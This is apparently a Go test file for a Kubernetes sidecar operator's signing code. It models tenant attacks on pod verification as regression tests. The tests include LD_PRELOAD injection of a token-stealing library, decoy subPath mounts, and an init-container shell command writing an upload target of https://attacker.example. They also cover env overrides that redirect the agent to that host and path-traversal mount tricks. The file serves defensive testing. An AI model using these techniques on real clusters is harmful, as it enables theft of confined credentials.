package signing

// Review attacks (branch review): a tenant who can create pods copies a
// valid record into a pod of its own and edits what verification
// tolerates. A test that FAILS shows a hole in docs/security.md's promises.

import (
	"errors"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/sidecar-operator/sidecar-operator/api/v1alpha1"
)

// confinedPod: an app container and an agent that alone mounts a Secret
// (its admin token), reads config from a ConfigMap, and works in an
// emptyDir that its injected init container "agent-init" fills.
func confinedPod() *corev1.Pod {
	work := corev1.VolumeMount{Name: "agent-work", MountPath: "/work"}
	return &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "p", Namespace: "ns"},
		Spec: corev1.PodSpec{
			InitContainers: []corev1.Container{{Name: "agent-init", Image: "registry.example.com/agent-init:1", VolumeMounts: []corev1.VolumeMount{work}}},
			Containers: []corev1.Container{{Name: "app", Image: "app"},
				{Name: "agent", Image: "registry.example.com/agent:1.4.0",
					VolumeMounts: []corev1.VolumeMount{{Name: "agent-token", MountPath: "/var/run/agent", ReadOnly: true}, work}}},
			Volumes: []corev1.Volume{
				{Name: "agent-token", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "admin-token"}}},
				{Name: "agent-work", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}},
			},
		},
	}
}

func sealConfined(t *testing.T, r *Ring, pod *corev1.Pod) *v1alpha1.InjectionRecord {
	t.Helper()
	rec := &v1alpha1.InjectionRecord{Name: "agent", Revision: "r1", Containers: []string{"agent-init", "agent"}}
	seal(pod, rec, 1)
	r.Sign("ns", "", "uid", rec)
	pod.Annotations = map[string]string{v1alpha1.AnnotationStatus: `{"sidecars":[{"name":"agent","containers":["agent-init","agent"]}]}`}
	if err := r.Verify(pod, "uid", false, rec); err != nil {
		t.Fatalf("test setup: as signed: %v", err)
	}
	return rec
}

// Attack 1: pin the tag to a digest the tenant chooses. Verification cannot
// know what "agent:1.4.0" names, so any digest of the repository (an older,
// vulnerable build; a -debug build with a shell entrypoint) verifies, even
// beside a credential confined to the sidecar, where no addition is allowed.
func TestReviewPinToAnyDigestOfTheRepository(t *testing.T) {
	r := ring(t, map[string][]byte{"k1000": secretOf(1)}, 0)
	pod := confinedPod()
	rec := sealConfined(t, r, pod)
	const olderVulnerableBuild = "@sha256:" + "deadbeef" + "deadbeef" + "deadbeef" + "deadbeef" + "deadbeef" + "deadbeef" + "deadbeef" + "deadbeef"
	pod.Spec.Containers[1].Image += olderVulnerableBuild
	if err := r.Verify(pod, "uid", false, rec); err == nil {
		t.Errorf("HOLE: the sidecar's image pinned to a digest the tenant chose (%s) verifies, beside a credential confined to it: "+
			"the tenant picks any image of the repository to run with the credential and the grant", pod.Spec.Containers[1].Image)
	}
	// Blocked variants, logged.
	for _, image := range []string{
		"registry.example.com/agent:1.4.0@sha256:DEADBEEFDEADBEEFDEADBEEFDEADBEEFDEADBEEFDEADBEEFDEADBEEFDEADBEEF", // uppercase hex
		"registry.example.com:5000/agent@sha256:" + hex64,                                                          // port, no tag
		"registry.example.com/agent@sha256:" + hex64,                                                               // tag dropped
		"registry.example.com/agent:1.4.0@sha256:" + hex64 + "@sha256:" + hex64,                                    // pinned twice
	} {
		p := confinedPod()
		rec := sealConfined(t, r, p)
		p.Spec.Containers[1].Image = image
		if err := r.Verify(p, "uid", false, rec); err == nil {
			t.Errorf("image %s verifies", image)
		} else {
			t.Logf("blocked: image %s: %v", image, err)
		}
	}
}

// Attack 2: a decoy mount of the credential volume in the tenant's app
// container, by a subPath of a key the Secret does not hold, so the app
// holds nothing of it; the credential no longer counts as confined, and
// LD_PRELOAD added to the sidecar verifies.
func TestReviewDecoySubPathUnconfinesTheCredential(t *testing.T) {
	r := ring(t, map[string][]byte{"k1000": secretOf(1)}, 0)
	pod := confinedPod()
	rec := sealConfined(t, r, pod)
	pod.Spec.Volumes = append(pod.Spec.Volumes, corev1.Volume{Name: "evil", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}})
	pod.Spec.Containers[0].VolumeMounts = []corev1.VolumeMount{
		{Name: "agent-token", MountPath: "/decoy", SubPath: "no-such-key"}, // the app sees an empty directory, not the token
		{Name: "evil", MountPath: "/evil"},
	}
	pod.Spec.Containers[1].Env = append(pod.Spec.Containers[1].Env, corev1.EnvVar{Name: "LD_PRELOAD", Value: "/evil/steal-token.so"})
	pod.Spec.Containers[1].VolumeMounts = append(pod.Spec.Containers[1].VolumeMounts, corev1.VolumeMount{Name: "evil", MountPath: "/evil"})
	if err := r.Verify(pod, "uid", false, rec); err == nil {
		t.Errorf("HOLE: with the app mounting the sidecar's Secret only at subPath \"no-such-key\", LD_PRELOAD and a tenant volume " +
			"added to the sidecar verify: the tenant's library runs in the sidecar and reads the token the app never holds")
	} else {
		t.Logf("blocked: %v", err)
	}
	// Without the decoy, blocked (the existing rule).
	plain := confinedPod()
	rec = sealConfined(t, r, plain)
	plain.Spec.Containers[1].Env = []corev1.EnvVar{{Name: "LD_PRELOAD", Value: "/tmp/x.so"}}
	if err := r.Verify(plain, "uid", false, rec); !errors.Is(err, ErrContentChanged) {
		t.Errorf("without the decoy: got %v", err)
	}
}

// Attack 3: an init container of the tenant's after the injected
// "agent-init", so before the sidecar "agent" (a regular container: every
// init container runs before it), mounting its working emptyDir: it writes
// what the agent reads, beside the credential confined to the agent.
func TestReviewTenantInitBeforeARegularSidecar(t *testing.T) {
	r := ring(t, map[string][]byte{"k1000": secretOf(1)}, 0)
	pod := confinedPod()
	rec := sealConfined(t, r, pod)
	pod.Spec.InitContainers = append(pod.Spec.InitContainers, corev1.Container{Name: "prep", Image: "attacker/prep",
		Command:      []string{"sh", "-c", "echo 'upload_token_to: https://attacker.example' > /work/agent.yaml"},
		VolumeMounts: []corev1.VolumeMount{{Name: "agent-work", MountPath: "/work"}}})
	if err := r.Verify(pod, "uid", false, rec); err == nil {
		t.Errorf("HOLE: an init container of the tenant's that runs before the (regular) sidecar and writes its emptyDir verifies " +
			"(checkPlacement only looks before native sidecars: containerIndex is -1 for a regular container)")
	} else {
		t.Logf("blocked: %v", err)
	}
	// The same container first, before agent-init: blocked (placement rule).
	first := confinedPod()
	rec = sealConfined(t, r, first)
	first.Spec.InitContainers = append([]corev1.Container{{Name: "prep", Image: "attacker/prep",
		VolumeMounts: []corev1.VolumeMount{{Name: "agent-work", MountPath: "/work"}}}}, first.Spec.InitContainers...)
	if err := r.Verify(first, "uid", false, rec); err == nil {
		t.Errorf("prep before agent-init verifies")
	} else {
		t.Logf("blocked: prep first: %v", err)
	}
}

// Attack 4: "unless an injection put it there" trusts every record in the
// annotation, verified or not: name the tenant's init container after a
// container another Sidecar's record names, and it may run before a native
// sidecar with its volume.
func TestReviewInitNamedAfterAnotherRecordsContainer(t *testing.T) {
	r := ring(t, map[string][]byte{"k1000": secretOf(1)}, 0)
	always := corev1.ContainerRestartPolicyAlways
	config := []corev1.VolumeMount{{Name: "work", MountPath: "/work"}}
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "p", Namespace: "ns"},
		Spec: corev1.PodSpec{
			InitContainers: []corev1.Container{{Name: "agent", Image: "agent", RestartPolicy: &always, VolumeMounts: config}},
			Containers:     []corev1.Container{{Name: "app", Image: "app"}},
			Volumes:        []corev1.Volume{{Name: "work", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}}},
		},
	}
	rec := &v1alpha1.InjectionRecord{Name: "agent", Revision: "r1", Containers: []string{"agent"}}
	seal(pod, rec, 1)
	r.Sign("ns", "", "uid", rec)
	// Another Sidecar, "mesh", injects an init container "mesh-init"; its record
	// is copied too (it will not verify: no matter, it is only unverified).
	pod.Annotations = map[string]string{v1alpha1.AnnotationStatus: `{"sidecars":[{"name":"agent","containers":["agent"]},{"name":"mesh","containers":["mesh-init"]}]}`}
	pod.Spec.InitContainers = append([]corev1.Container{{Name: "mesh-init", Image: "attacker/writer", VolumeMounts: config}}, pod.Spec.InitContainers...)
	if err := r.Verify(pod, "uid", false, rec); err == nil {
		t.Errorf("HOLE: a tenant init container named after another record's container runs before the native sidecar with its volume, and the agent's record verifies")
	} else {
		t.Logf("blocked: %v", err)
	}
}

// Attack 5: an added env entry shadows what the webhook set through envFrom
// (env wins over envFrom), and changes what $(VAR) in its args expands to.
func TestReviewAddedEnvShadowsEnvFrom(t *testing.T) {
	r := ring(t, map[string][]byte{"k1000": secretOf(1)}, 0)
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "p", Namespace: "ns"},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "app"},
			{Name: "agent", Image: "agent:1", Args: []string{"--server=$(AGENT_SERVER)"},
				EnvFrom: []corev1.EnvFromSource{{ConfigMapRef: &corev1.ConfigMapEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "agent-settings"}}}}}}},
	}
	rec := &v1alpha1.InjectionRecord{Name: "agent", Revision: "r1", Containers: []string{"agent"}}
	seal(pod, rec, 0)
	r.Sign("ns", "", "uid", rec)
	pod.Spec.Containers[1].Env = append(pod.Spec.Containers[1].Env, corev1.EnvVar{Name: "AGENT_SERVER", Value: "https://attacker.example"})
	if err := r.Verify(pod, "uid", false, rec); err == nil {
		t.Errorf("HOLE: env AGENT_SERVER added after injection overrides the envFrom ConfigMap the webhook set, and $(AGENT_SERVER) in its args, and verifies")
	} else {
		t.Logf("blocked: %v", err)
	}
}

// Attack 6: a credential the sidecar alone holds through env
// (secretKeyRef), not a volume: additions are allowed, so LD_PRELOAD reads it.
func TestReviewSecretInEnvIsNotConfined(t *testing.T) {
	r := ring(t, map[string][]byte{"k1000": secretOf(1)}, 0)
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "p", Namespace: "ns"},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "app"},
			{Name: "agent", Image: "agent:1", Env: []corev1.EnvVar{{Name: "ADMIN_TOKEN", ValueFrom: &corev1.EnvVarSource{
				SecretKeyRef: &corev1.SecretKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "admin-token"}, Key: "token"}}}}}}},
	}
	rec := &v1alpha1.InjectionRecord{Name: "agent", Revision: "r1", Containers: []string{"agent"}}
	seal(pod, rec, 0)
	r.Sign("ns", "", "uid", rec)
	pod.Spec.Containers[1].Env = append(pod.Spec.Containers[1].Env, corev1.EnvVar{Name: "LD_PRELOAD", Value: "/tmp/evil.so"})
	if err := r.Verify(pod, "uid", false, rec); err == nil {
		t.Errorf("HOLE: LD_PRELOAD added to a sidecar that alone holds a Secret in env (secretKeyRef) verifies")
	} else {
		t.Logf("blocked: %v", err)
	}
}

// Blocked attacks on additions, logged: path tricks and case games.
func TestReviewAdditionsBlocked(t *testing.T) {
	r := ring(t, map[string][]byte{"k1000": secretOf(1)}, 0)
	for name, tc := range map[string]struct {
		edit    func(p *corev1.Pod)
		blocked bool
	}{
		"mount at /etc/agent/../agent": {func(p *corev1.Pod) {
			p.Spec.Containers[1].VolumeMounts = append(p.Spec.Containers[1].VolumeMounts, corev1.VolumeMount{Name: "app-data", MountPath: "/etc/agent/../agent"})
		}, true},
		"mount at /etc//agent/": {func(p *corev1.Pod) {
			p.Spec.Containers[1].VolumeMounts = append(p.Spec.Containers[1].VolumeMounts, corev1.VolumeMount{Name: "app-data", MountPath: "/etc//agent/"})
		}, true},
		"mount at the token path via ..": {func(p *corev1.Pod) {
			p.Spec.Containers[1].VolumeMounts = append(p.Spec.Containers[1].VolumeMounts,
				corev1.VolumeMount{Name: "app-data", MountPath: "/var/run/secrets/kubernetes.io/x/../serviceaccount"})
		}, true},
		"token-named volume of a Secret at the token path": {func(p *corev1.Pod) {
			p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{Name: "kube-api-access-zz", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "x"}}})
			p.Spec.Containers[1].VolumeMounts = append(p.Spec.Containers[1].VolumeMounts,
				corev1.VolumeMount{Name: "kube-api-access-zz", MountPath: TokenMountPath, ReadOnly: true})
		}, true},
		"env ns (other case) added: a distinct variable on Linux": {func(p *corev1.Pod) {
			p.Spec.Containers[1].Env = append(p.Spec.Containers[1].Env, corev1.EnvVar{Name: "ns", Value: "x"})
		}, false},
		"runAsUser 0": {func(p *corev1.Pod) {
			p.Spec.Containers[1].SecurityContext = &corev1.SecurityContext{RunAsUser: new(int64(0))}
		}, true},
		"seccomp Unconfined": {func(p *corev1.Pod) {
			p.Spec.Containers[1].SecurityContext = &corev1.SecurityContext{SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}}
		}, true},
		"mountPropagation on an added mount of the webhook's path": {func(p *corev1.Pod) {
			b := corev1.MountPropagationHostToContainer
			p.Spec.Containers[1].VolumeMounts = append(p.Spec.Containers[1].VolumeMounts, corev1.VolumeMount{Name: "app-data", MountPath: "/etc/agent", MountPropagation: &b})
		}, true},
		"readOnly flip of the webhook's mount": {func(p *corev1.Pod) { p.Spec.Containers[1].VolumeMounts[0].ReadOnly = true }, true},
		"subPathExpr on the webhook's mount":   {func(p *corev1.Pod) { p.Spec.Containers[1].VolumeMounts[0].SubPathExpr = "$(NS)" }, true},
	} {
		pod, rec := signedPod(t, r)
		tc.edit(pod)
		err := r.Verify(pod, "uid-1", false, rec)
		switch {
		case tc.blocked && err == nil:
			t.Errorf("%s: verifies", name)
		case tc.blocked:
			t.Logf("blocked: %s: %v", name, err)
		case err != nil:
			t.Errorf("%s: refused, though it changes nothing the sidecar sees: %v", name, err)
		default:
			t.Logf("allowed, harmless: %s", name)
		}
	}
}
